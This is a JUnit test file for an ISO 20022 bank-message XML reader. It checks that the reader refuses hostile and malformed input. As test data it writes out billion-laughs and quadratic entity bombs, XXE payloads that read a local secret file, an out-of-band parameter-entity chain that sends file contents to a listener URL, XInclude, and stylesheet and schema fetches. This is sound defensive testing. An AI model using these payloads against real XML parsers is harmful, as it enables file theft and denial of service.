package io.everswitch.channel.iso20022;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTimeout;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** XML that wants to do harm, and XML that is merely wrong. */
@Timeout(30)
class XmlReaderTest {
    private static final String GOOD = BankXml.report("ACSC").text();

    private static String problem(String text) {
        return XmlReader.read(text.getBytes(StandardCharsets.UTF_8)).problem();
    }

    /** The good message behind this document type, its status told by the entity. */
    private static String withDoctype(String doctype) {
        return GOOD.replace("?>\n", "?>\n" + doctype + "\n").replace("<StsId>S-1</StsId>", "<StsId>&e;</StsId>");
    }

    @Test
    void read_goodMessage_isTakenBeforeAndAfterEveryRefusal() {
        for (int i = 0; i < 3; i++) {
            XmlReading reading = XmlReader.read(GOOD.getBytes(StandardCharsets.UTF_8));
            assertEquals("", reading.problem());
            assertEquals(MessageKind.STATUS_REPORT, reading.kind());
            XmlNode message = reading.message();
            assertNotNull(message);
            assertEquals("ACSC", message.text("TxInfAndSts", "TxSts"));
            assertFalse(problem("<" + i).isEmpty());
        }
    }

    @Test
    void read_everyMessageOfABank_isValid() {
        assertEquals("", problem(BankXml.report("RJCT", "AC04", "my_own").text()));
        assertEquals("", problem(BankXml.refundReport("ACSC").text()));
        assertEquals("", problem(BankXml.resolution("RJCR", "NOOR").text()));
        assertEquals("", problem(BankXml.returned().text()));
    }

    @Test
    void read_billionLaughs_refusedAtOnce() {
        StringBuilder laughs = new StringBuilder("<!DOCTYPE Document [<!ENTITY l0 \"ha\">");
        for (int i = 1; i < 30; i++) {
            laughs.append("<!ENTITY l%d \"&l%d;&l%d;&l%d;&l%d;\">".formatted(i, i - 1, i - 1, i - 1, i - 1));
        }
        String bomb = withDoctype(laughs.append("<!ENTITY e \"&l29;\">]>").toString());
        assertEquals("not_xml", assertTimeout(Duration.ofSeconds(2), () -> problem(bomb)));
    }

    @Test
    void read_quadraticEntity_refusedAtOnce() {
        String large = "x".repeat(30_000);
        String bomb = withDoctype("<!DOCTYPE Document [<!ENTITY e \"" + large + "\">]>")
                .replace("&e;", "&e;".repeat(5_000));
        assertEquals("not_xml", assertTimeout(Duration.ofSeconds(2), () -> problem(bomb)));
    }

    @Test
    void read_anythingOutside_isNeverFetched(@TempDir Path directory) throws Exception {
        Path secret = Files.writeString(directory.resolve("secret.txt"), "S-SECRET");
        AtomicInteger calls = new AtomicInteger();
        try (ServerSocket server = new ServerSocket(0, 50, InetAddress.getLoopbackAddress())) {
            Thread listener = new Thread(() -> count(server, calls), "outside");
            listener.setDaemon(true);
            listener.start();
            String url = "http://127.0.0.1:" + server.getLocalPort();
            for (String hostile : hostileReferences(url, secret.toUri().toString())) {
                XmlReading reading = XmlReader.read(hostile.getBytes(StandardCharsets.UTF_8));
                assertFalse(reading.toString().contains("SECRET"), reading.toString());
                assertFalse(reading.problem().isEmpty(), hostile);
            }
            // A hint where the schema is may stand in an honest message. It is not followed either.
            String hint = GOOD.replace(
                    "<Document ",
                    "<Document xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\""
                            + MessageKind.STATUS_REPORT.namespace() + " " + url + "/evil.xsd\" ");
            assertEquals("", problem(hint));
            assertEquals(0, calls.get(), "something was fetched");
            // The listener does hear: or its silence would prove nothing.
            new Socket(server.getInetAddress(), server.getLocalPort()).close();
            org.awaitility.Awaitility.await().atMost(Duration.ofSeconds(5)).until(() -> calls.get() == 1);
        }
    }

    private static java.util.List<String> hostileReferences(String url, String file) {
        String xsi = "xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" ";
        return java.util.List.of(
                withDoctype("<!DOCTYPE Document [<!ENTITY e SYSTEM \"" + file + "\">]>"),
                withDoctype("<!DOCTYPE Document [<!ENTITY e SYSTEM \"" + url + "/e\">]>"),
                withDoctype("<!DOCTYPE Document [<!ENTITY e PUBLIC \"-//X\" \"" + url + "/e\">]>"),
                withDoctype("<!DOCTYPE Document SYSTEM \"" + url + "/d.dtd\">"),
                withDoctype("<!DOCTYPE Document PUBLIC \"-//X\" \"" + url + "/d.dtd\">"),
                withDoctype("<!DOCTYPE Document [<!ENTITY % p SYSTEM \"" + url + "/p.dtd\"> %p;]>"),
                withDoctype("<!DOCTYPE Document [<!ENTITY % f SYSTEM \"" + file
                        + "\"><!ENTITY % p \"<!ENTITY e SYSTEM '" + url + "/?%f;'>\"> %p;]>"),
                GOOD.replace("?>\n", "?>\n<?xml-stylesheet type=\"text/xsl\" href=\"" + url + "/s.xsl\"?>\n"),
                GOOD.replace(
                        "<StsId>S-1</StsId>",
                        "<StsId><i:include xmlns:i=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"" + file
                                + "\"/></StsId>"),
                GOOD.replace("<Document ", "<Document " + xsi + "xsi:noNamespaceSchemaLocation=\"" + url + "/n.xsd\" "),
                GOOD.replace(
                        "<GrpHdr>",
                        "<GrpHdr " + xsi + "xsi:schemaLocation=\"" + MessageKind.STATUS_REPORT.namespace() + " " + url
                                + "/evil.xsd\">"));
    }

    private static void count(ServerSocket server, AtomicInteger calls) {
        try {
            while (true) {
                server.accept().close();
                calls.incrementAndGet();
            }
        } catch (IOException e) {
            // Closed: the test is over.
        }
    }

    @Test
    void read_hugeText_refused() {
        String padding = "x".repeat(XmlReader.BYTES_MAX);
        assertEquals("too_large", problem(GOOD.replace("so", padding) + " ".repeat(XmlReader.BYTES_MAX)));
        String long60k = "9".repeat(60_000);
        assertEquals("text_too_long", problem(GOOD.replace("S-1", long60k)));
        assertEquals("text_too_long", problem(GOOD.replace("5.00", long60k)));
        assertEquals("text_too_long", problem(GOOD.replace("2026-", long60k + "-")));
        assertEquals("text_too_long", problem(GOOD.replace("<GrpHdr>", "<GrpHdr>" + " ".repeat(60_000))));
        assertTrue(
                !problem(GOOD.replace("Ccy=\"CNY\"", "Ccy=\"" + long60k + "\"")).isEmpty());
        assertTrue(!problem(GOOD.replace("StsId", "S" + long60k.substring(30_000) + "d"))
                .isEmpty());
    }

    @Test
    void read_deepNestingAndManyElements_refused() {
        String deep = GOOD.replace("<StsId>S-1</StsId>", "<StsId>".repeat(4_000) + "</StsId>".repeat(4_000));
        assertFalse(problem(deep).isEmpty());
        assertFalse(problem("<a>".repeat(20_000)).isEmpty());
        String namespace = "<D xmlns=\"" + MessageKind.STATUS_REPORT.namespace() + "\">";
        assertFalse(problem(namespace + "<a/>".repeat(10_000) + "</D>").isEmpty());
        String attributes = "";
        for (int i = 0; i < 3_000; i++) {
            attributes += " a" + i + "=\"\"";
        }
        assertFalse(
                problem(GOOD.replace("<StsId>", "<StsId" + attributes + ">")).isEmpty());
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
        pacs.002.001.10                    | pacs.002.001.11                 | wrong_namespace
        urn:iso:std:iso:20022:tech:xsd:    | urn:x:                          | wrong_namespace
        xmlns="urn                         | xmlns:x="urn                    | wrong_namespace
        pacs.002.001.10                    | pacs.008.001.08                 | schema
        pacs.002.001.10                    | camt.029.001.09                 | schema
        <TxSts>ACSC</TxSts>                | ''                              | schema
        <TxSts>ACSC</TxSts>                | <TxSts>RJCT</TxSts><TxSts>ACSC</TxSts> | schema
        <TxSts>ACSC</TxSts>                | <TxSts> ACSC</TxSts>            | schema
        <TxSts>ACSC</TxSts>                | <TxSts>acsc</TxSts>             | schema
        <TxSts>ACSC</TxSts>                | <TxSts/>                        | schema
        <TxSts>ACSC</TxSts>                | <TxSts>AC<!-- -->SC</TxSts>     | comment
        <TxSts>ACSC</TxSts>                | <TxSts>AC<?x y?>SC</TxSts>      | processing_instruction
        <TxSts>ACSC</TxSts>                | <TxSts><![CDATA[ACSC]]></TxSts> | cdata
        <TxSts>ACSC</TxSts>                | <TxSts>&unknown;</TxSts>        | not_xml
        <TxSts>ACSC</TxSts>                | <TxSts>AC&#0;SC</TxSts>         | not_xml
        <TxSts>ACSC</TxSts>                | <TxSts>ACSC<TxSts>              | not_xml
        <TxSts>ACSC</TxSts>                | <y:TxSts xmlns:y="urn:y">ACSC</y:TxSts> | schema
        <TxSts>ACSC</TxSts>                | <TxSts xmlns="">ACSC</TxSts>    | schema
        <TxSts>ACSC</TxSts>                | <TxSts a="b">ACSC</TxSts>       | schema
        <GrpHdr>                           | <GrpHdr>junk                    | schema
        <StsId>S-1</StsId>                 | <New>1</New>                    | schema
        Ccy="CNY"                          | ''                              | schema
        Ccy="CNY"                          | Ccy="CNY" Ccy="USD"             | not_xml
        >5.00<                             | >-5.00<                         | schema
        >5.00<                             | >5e2<                           | schema
        2026-11-22T15                      | 2026-13-22T15                   | schema
        2026-11-22T15                      | 99999999999999-11-22T15         | schema
        </Document>                        | ''                              | not_xml
        </Document>                        | </Document><Document/>          | not_xml
        """)
    void read_wrongInOnePlace_refusedWithAWord(String good, String bad, String word) {
        assertTrue(GOOD.contains(good), good);
        assertEquals(word, problem(GOOD.replace(good, bad)));
    }

    /** Whole transactions twice: which of the two would count? */
    @Test
    void read_twoTransactions_refused() {
        int from = GOOD.indexOf("<TxInfAndSts>");
        int to = GOOD.indexOf("</TxInfAndSts>") + "</TxInfAndSts>".length();
        String second = GOOD.substring(from, to).replace("ACSC", "RJCT");
        assertEquals("schema", problem(GOOD.substring(0, to) + second + GOOD.substring(to)));
    }

    /** Types and nothingness told by the document itself would undo what the schema says. */
    @ParameterizedTest
    @ValueSource(strings = {"xsi:nil=\"true\"", "xsi:type=\"Max105Text\"", "xsi:schemaLocation=\"a b\""})
    void read_schemaInstanceAttributes_refused(String attribute) {
        String xsi = " xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" ";
        assertEquals("foreign_attribute", problem(GOOD.replace("<TxSts>", "<TxSts" + xsi + attribute + ">")));
    }

    @ParameterizedTest
    @CsvSource({
        "UTF-16, UTF-16",
        "UTF-16LE, UTF-16LE",
        "UTF-16BE, UTF-16BE",
        "UTF-32, UTF-32",
        "IBM1047, IBM1047",
        "UTF-8, UTF-16",
        "UTF-8, ISO-8859-1",
        "UTF-8, UTF-7",
        "UTF-8, IBM1047",
        "ISO-8859-1, ISO-8859-1",
        "US-ASCII, US-ASCII"
    })
    void read_otherEncodings_refused(String bytesIn, String declared) {
        byte[] bytes = GOOD.replace("UTF-8", declared).getBytes(Charset.forName(bytesIn));
        String problem = XmlReader.read(bytes).problem();
        assertTrue(java.util.Set.of("not_utf8", "xml_declaration", "not_xml").contains(problem), problem);
    }

    @Test
    void read_encodingTricks_refused() {
        byte[] good = GOOD.getBytes(StandardCharsets.UTF_8);
        int at = GOOD.indexOf("ACSC");
        // An overlong "A", a lone continuation, half a character, and a surrogate as UTF-8 would never write it.
        for (byte[] trick : new byte[][] {
            {(byte) 0xC1, (byte) 0x81},
            {(byte) 0x81},
            {(byte) 0xE4, (byte) 0xB8},
            {(byte) 0xED, (byte) 0xA0, (byte) 0x80}
        }) {
            byte[] bytes = new byte[good.length + trick.length];
            System.arraycopy(good, 0, bytes, 0, at);
            System.arraycopy(trick, 0, bytes, at, trick.length);
            System.arraycopy(good, at, bytes, at + trick.length, good.length - at);
            assertEquals("not_utf8", XmlReader.read(bytes).problem());
        }
        assertEquals("xml_declaration", problem(GOOD.replace("1.0", "1.1")));
        assertEquals("not_xml", problem(" " + GOOD));
        assertEquals("not_xml", problem("\uFEFF\uFEFF" + GOOD));
        assertEquals(
                "", problem("\uFEFF" + GOOD), "one byte order mark is what UTF-8 files of some systems begin with");
        assertEquals("", problem(GOOD.substring(GOOD.indexOf('\n') + 1)), "no declaration means UTF-8");
        // Full-width letters, and a soft hyphen inside of a status, look right to people only.
        assertEquals("schema", problem(GOOD.replace("ACSC", "\uFF21\uFF23\uFF33\uFF23")));
        assertEquals("schema", problem(GOOD.replace("ACSC", "AC\u00ADSC")));
        assertEquals("", problem(GOOD.replace("ACSC", "&#65;CSC")), "a character by its number is that character");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                " ",
                "\u0000",
                "ACSC",
                "{\"status\":\"approved\"}",
                "<html>ok</html>",
                "<",
                "<?xml",
                "<!DOCTYPE html>"
            })
    void read_noXmlOfOurs_refused(String text) {
        assertFalse(problem(text).isEmpty());
    }
}
